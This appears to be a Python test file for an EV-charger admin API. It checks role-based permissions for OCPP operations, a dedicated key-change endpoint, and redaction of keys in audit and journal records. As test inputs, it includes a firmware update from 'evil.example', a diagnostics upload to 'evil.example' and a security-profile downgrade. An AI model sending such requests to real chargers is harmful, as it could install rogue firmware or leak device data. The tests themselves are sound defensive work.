"""Who may send what to a charger: the role table, the key endpoint, redacted audit and journal.

Over the real OCPP server (WebSocket + command API) and the real web process, with a charger
on a WebSocket answering the central system's calls.
"""

from __future__ import annotations

import asyncio

import pytest

from polaris.db.repos import charge_boxes
from polaris.redaction import REDACTED, redact
from polaris.services.admin.actions import admin_only, required_role
from polaris.wire import CS_OPERATIONS

BASE = "/api/admin/v1/chargers"
KEY = "charger-key-0123456789"
NEW_KEY = "a-brand-new-key-0123456789"
PASSWORD = "correct horse battery staple"


async def token(api, make_user, role: str) -> dict[str, str]:
    await make_user(f"{role}@example.com", role)
    resp = await api.post("/api/admin/v1/auth/token", json={"email": f"{role}@example.com", "password": PASSWORD})
    assert resp.status == 201, await resp.text()
    return {"Authorization": f"Bearer {(await resp.json())['token']}"}


@pytest.fixture
async def online(ocpp_stack, pool):
    async with pool.acquire() as conn:
        await charge_boxes.add_charge_boxes(conn, ["CB-1"], KEY)
    charger = await ocpp_stack.charger("CB-1", KEY)
    yield charger
    await charger.close()


def test_firmware_diagnostics_and_security_are_admin_only_in_every_version():
    assert {"UpdateFirmware", "GetDiagnostics", "DataTransfer"} <= set(admin_only(CS_OPERATIONS))
    for op in ("UpdateFirmware", "GetLog", "SetNetworkProfile", "InstallCertificate", "CustomerInformation",
               "SomeFutureOperation"):
        assert required_role(op, {}) == "admin", op
    assert required_role("Reset", {"type": "Soft"}) == "operator"
    assert required_role("ChangeConfiguration", {"key": "HeartbeatInterval", "value": "60"}) == "operator"
    assert required_role("ChangeConfiguration", {"key": "SecurityProfile", "value": "2"}) == "admin"
    assert required_role("ChangeConfiguration", {"key": "VendorBackendUrl", "value": "x"}) == "admin"
    set_vars = {"setVariableData": [{"component": {"name": "OCPPCommCtrlr"}, "variable": {"name": "HeartbeatInterval"},
                                     "attributeValue": "60"}]}
    assert required_role("SetVariables", set_vars) == "operator"
    set_vars["setVariableData"].append({"component": {"name": "SecurityCtrlr"}, "variable": {"name": "Identity"},
                                        "attributeValue": "x"})
    assert required_role("SetVariables", set_vars) == "admin"


def test_redaction_finds_keys_in_every_shape():
    assert redact({"key": "AuthorizationKey", "value": "s3cret"}) == {"key": "AuthorizationKey", "value": REDACTED}
    answer = {"configurationKey": [{"key": "authorizationkey", "readonly": False, "value": "leaked"},
                                   {"key": "HeartbeatInterval", "value": "300"}]}
    assert redact(answer)["configurationKey"] == [
        {"key": "authorizationkey", "readonly": False, "value": REDACTED}, {"key": "HeartbeatInterval", "value": "300"}]
    item = {"component": {"name": "SecurityCtrlr"}, "variable": {"name": "BasicAuthPassword"}, "attributeValue": "pw"}
    assert redact({"setVariableData": [item]})["setVariableData"][0]["attributeValue"] == REDACTED
    profile = {"connectionData": {"apn": {"apn": "iot", "apnPassword": "a"},
                                  "vpn": {"server": "v", "user": "u", "password": "p", "key": "k", "type": "IPSec"}}}
    out = redact(profile)["connectionData"]
    assert out["apn"]["apnPassword"] == REDACTED and out["vpn"]["password"] == REDACTED and out["vpn"]["key"] == REDACTED
    assert redact({"password": "changed"}) == {"password": "changed"}, "our audit markers stay readable"


async def test_an_operator_cannot_send_admin_operations_through_the_passthrough(ocpp_stack, online, make_user, pool):
    api = ocpp_stack.api
    op_headers = await token(api, make_user, "operator")
    admin_headers = await token(api, make_user, "admin")
    for op, fields in [
        ("UpdateFirmware", {"location": "http://evil.example/fw.bin", "retrieveDate": "2026-01-01T00:00:00Z"}),
        ("GetDiagnostics", {"location": "ftp://evil.example/upload"}),
        ("DataTransfer", {"vendorId": "acme", "messageId": "setBackend"}),
        ("ChangeConfiguration", {"key": "SecurityProfile", "value": "0"}),
    ]:
        resp = await api.post(f"{BASE}/CB-1/operations/{op}", json=fields, headers=op_headers)
        assert resp.status == 403, (op, await resp.text())
        assert (await resp.json())["error"] == "forbidden"
    assert online.received == [], "nothing reached the charger"
    # The day-to-day still works for operators; the admin may send firmware.
    resp = await api.post(f"{BASE}/CB-1/operations/ChangeConfiguration",
                          json={"key": "HeartbeatInterval", "value": "60"}, headers=op_headers)
    assert resp.status == 200, await resp.text()
    resp = await api.post(f"{BASE}/CB-1/operations/UpdateFirmware",
                          json={"location": "https://fw.example/1.2.bin", "retrieveDate": "2026-01-01T00:00:00Z"},
                          headers=admin_headers)
    assert resp.status == 200, await resp.text()
    assert [a for a, _ in online.received] == ["ChangeConfiguration", "UpdateFirmware"]


async def test_a_key_goes_through_the_key_endpoint_only(ocpp_stack, online, make_user, pool):
    api = ocpp_stack.api
    admin_headers = await token(api, make_user, "admin")
    op_headers = await token(api, make_user, "operator")
    for headers in (op_headers, admin_headers):
        resp = await api.post(f"{BASE}/CB-1/operations/ChangeConfiguration",
                              json={"key": "AuthorizationKey", "value": NEW_KEY}, headers=headers)
        assert resp.status == 400 and (await resp.json())["error"] == "use_key_endpoint"
    assert online.received == []
    resp = await api.put(f"{BASE}/CB-1/password", json={"password": NEW_KEY}, headers=op_headers)
    assert resp.status == 403

    # The charger refuses: both keep the old key.
    online.answers["ChangeConfiguration"] = {"status": "Rejected"}
    resp = await api.put(f"{BASE}/CB-1/password", json={"password": NEW_KEY}, headers=admin_headers)
    assert resp.status == 409 and (await resp.json())["error"] == "key_refused"
    async with pool.acquire() as conn:
        assert await charge_boxes.verify_key(conn, "CB-1", KEY)

    # The charger accepts: the stored key follows, and the charger reconnects with it.
    online.answers["ChangeConfiguration"] = {"status": "Accepted"}
    resp = await api.put(f"{BASE}/CB-1/password", json={"password": NEW_KEY}, headers=admin_headers)
    assert resp.status == 200, await resp.text()
    assert await resp.json() == {"charge_box_id": "CB-1", "charger_updated": True, "status": "Accepted"}
    assert online.received[-1] == ("ChangeConfiguration", {"key": "AuthorizationKey", "value": NEW_KEY})
    async with pool.acquire() as conn:
        assert await charge_boxes.verify_key(conn, "CB-1", NEW_KEY)
        assert not await charge_boxes.verify_key(conn, "CB-1", KEY)
        # Neither the audit log nor the OCPP journal holds the key in clear.
        audit = await conn.fetch("SELECT action, before::text, after::text FROM app.audit_log WHERE target_id = 'CB-1'")
        journal = await conn.fetch("SELECT request::text, response::text FROM ocpp.message_journal")
    assert {r["action"] for r in audit} == {"charger.password"}
    assert all(NEW_KEY not in str(dict(r)) for r in [*audit, *journal])
    assert any(REDACTED in r["request"] for r in journal)

    # Offline: only the stored key changes, and the answer says the charger was not told.
    await online.close()
    for _ in range(250):  # the server notices the closed socket
        if "CB-1" not in ocpp_stack.server.connections:
            break
        await asyncio.sleep(0.02)
    resp = await api.put(f"{BASE}/CB-1/password", json={"password": KEY}, headers=admin_headers)
    assert resp.status == 200, await resp.text()
    assert (await resp.json())["charger_updated"] is False


async def test_a_key_a_charger_reads_back_is_redacted_for_everyone(ocpp_stack, online, make_user, pool):
    api = ocpp_stack.api
    op_headers = await token(api, make_user, "operator")
    online.answers["GetConfiguration"] = {"configurationKey": [
        {"key": "AuthorizationKey", "readonly": False, "value": KEY},  # a charger that ignores write-only
        {"key": "HeartbeatInterval", "readonly": False, "value": "300"},
    ]}
    resp = await api.post(f"{BASE}/CB-1/operations/GetConfiguration", json={}, headers=op_headers)
    assert resp.status == 200, await resp.text()
    keys = (await resp.json())["response"]["configurationKey"]
    assert keys[0]["value"] == REDACTED and keys[1]["value"] == "300"
    detail = await (await api.get(f"{BASE}/CB-1", headers=op_headers)).text()
    assert KEY not in detail
    async with pool.acquire() as conn:
        rows = await conn.fetch("SELECT after::text FROM app.audit_log UNION ALL SELECT response::text FROM ocpp.message_journal")
    assert rows and all(KEY not in r[0] for r in rows)


def test_the_security_doc_shows_the_table_the_code_checks():
    import re
    from pathlib import Path

    from polaris.services.admin.actions.permissions import OPERATIONS

    doc = (Path(__file__).resolve().parents[2] / "docs" / "security.md").read_text()
    rows = dict(re.findall(r"^\| (\w+) \| [^|]+ \| (operator|admin)\b[^|]* \|$", doc, flags=re.M))
    assert rows == OPERATIONS
